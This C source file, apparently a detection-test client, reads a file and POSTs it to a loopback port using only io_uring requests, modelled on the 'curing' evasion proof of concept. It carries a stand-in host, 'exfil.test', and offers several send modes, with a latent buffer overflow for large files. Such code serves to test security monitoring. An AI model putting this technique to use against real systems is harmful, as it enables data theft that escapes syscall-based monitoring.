/*
 * A client that does all its file and network I/O through io_uring, like the 2025 "curing"
 * proof of concept: it opens and reads a file, creates a socket, connects to 127.0.0.1:PORT and
 * sends an HTTP POST whose body is the file, each step one io_uring request and no read(),
 * connect() or write() syscall of its own.
 *
 *   uring_client MODE FILE PORT
 *
 * MODE says how the request goes out: send, sendmsg, write, writev (one request each), or
 * fixed (send on the socket registered as a fixed file), or sqpoll (send, from a ring with an
 * SQPOLL thread doing the submissions). Prints "sent N" and exits 0 when the server answered.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <liburing.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/uio.h>

static struct io_uring ring;

static int submit_wait(const char *what)
{
	struct io_uring_cqe *cqe;
	int res;

	if (io_uring_submit(&ring) < 0) {
		fprintf(stderr, "%s: submit failed\n", what);
		exit(2);
	}
	if (io_uring_wait_cqe(&ring, &cqe) < 0) {
		fprintf(stderr, "%s: wait failed\n", what);
		exit(2);
	}
	res = cqe->res;
	io_uring_cqe_seen(&ring, cqe);
	if (res < 0) {
		fprintf(stderr, "%s: %s\n", what, strerror(-res));
		exit(2);
	}
	return res;
}

static struct io_uring_sqe *sqe(void)
{
	struct io_uring_sqe *s = io_uring_get_sqe(&ring);

	if (!s) {
		fprintf(stderr, "no sqe\n");
		exit(2);
	}
	return s;
}

int main(int argc, char **argv)
{
	static char body[8192], head[256], reply[1024];
	struct sockaddr_in addr = { .sin_family = AF_INET };
	struct io_uring_params params = {};
	const char *mode;
	int fd, sock, n, hlen, sent;

	if (argc != 4) {
		fprintf(stderr, "usage: %s send|sendmsg|write|writev|fixed|sqpoll|close FILE PORT\n",
			argv[0]);
		return 2;
	}
	mode = argv[1];
	if (!strcmp(mode, "sqpoll")) {
		params.flags = IORING_SETUP_SQPOLL;
		params.sq_thread_idle = 2000;
	}
	if (io_uring_queue_init_params(8, &ring, &params) < 0) {
		fprintf(stderr, "io_uring_queue_init failed\n");
		return 2;
	}

	io_uring_prep_openat(sqe(), AT_FDCWD, argv[2], O_RDONLY, 0);
	fd = submit_wait("openat");
	io_uring_prep_read(sqe(), fd, body, sizeof(body), 0);
	n = submit_wait("read");
	if (!strcmp(mode, "close")) {
		/* The file closed through the ring: the socket then gets its fd number. */
		io_uring_prep_close(sqe(), fd);
		submit_wait("close");
	}

	io_uring_prep_socket(sqe(), AF_INET, SOCK_STREAM, 0, 0);
	sock = submit_wait("socket");
	addr.sin_port = htons(atoi(argv[3]));
	addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	io_uring_prep_connect(sqe(), sock, (struct sockaddr *)&addr, sizeof(addr));
	submit_wait("connect");

	hlen = snprintf(head, sizeof(head),
			"POST /u HTTP/1.1\r\nHost: exfil.test\r\nConnection: close\r\n"
			"Content-Length: %d\r\n\r\n", n);
	struct iovec iov[2] = { { head, hlen }, { body, n } };
	struct msghdr msg = { .msg_iov = iov, .msg_iovlen = 2 };

	if (!strcmp(mode, "send") || !strcmp(mode, "sqpoll") || !strcmp(mode, "fixed") ||
	    !strcmp(mode, "close")) {
		/* One buffer: the head and the body together. */
		memmove(body + hlen, body, n);
		memcpy(body, head, hlen);
		if (!strcmp(mode, "fixed")) {
			if (io_uring_register_files(&ring, &sock, 1) < 0) {
				fprintf(stderr, "register_files failed\n");
				return 2;
			}
			struct io_uring_sqe *s = sqe();

			io_uring_prep_send(s, 0, body, hlen + n, 0); /* fixed slot 0 */
			io_uring_sqe_set_flags(s, IOSQE_FIXED_FILE);
		} else {
			io_uring_prep_send(sqe(), sock, body, hlen + n, 0);
		}
	} else if (!strcmp(mode, "sendmsg")) {
		io_uring_prep_sendmsg(sqe(), sock, &msg, 0);
	} else if (!strcmp(mode, "write")) {
		memmove(body + hlen, body, n);
		memcpy(body, head, hlen);
		io_uring_prep_write(sqe(), sock, body, hlen + n, 0);
	} else if (!strcmp(mode, "writev")) {
		io_uring_prep_writev(sqe(), sock, iov, 2, 0);
	} else {
		fprintf(stderr, "unknown mode %s\n", mode);
		return 2;
	}
	sent = submit_wait(mode);

	io_uring_prep_shutdown(sqe(), sock, SHUT_WR);
	submit_wait("shutdown");
	io_uring_prep_recv(sqe(), sock, reply, sizeof(reply), 0);
	submit_wait("recv");
	printf("sent %d\n", sent);
	io_uring_queue_exit(&ring);
	return 0;
}
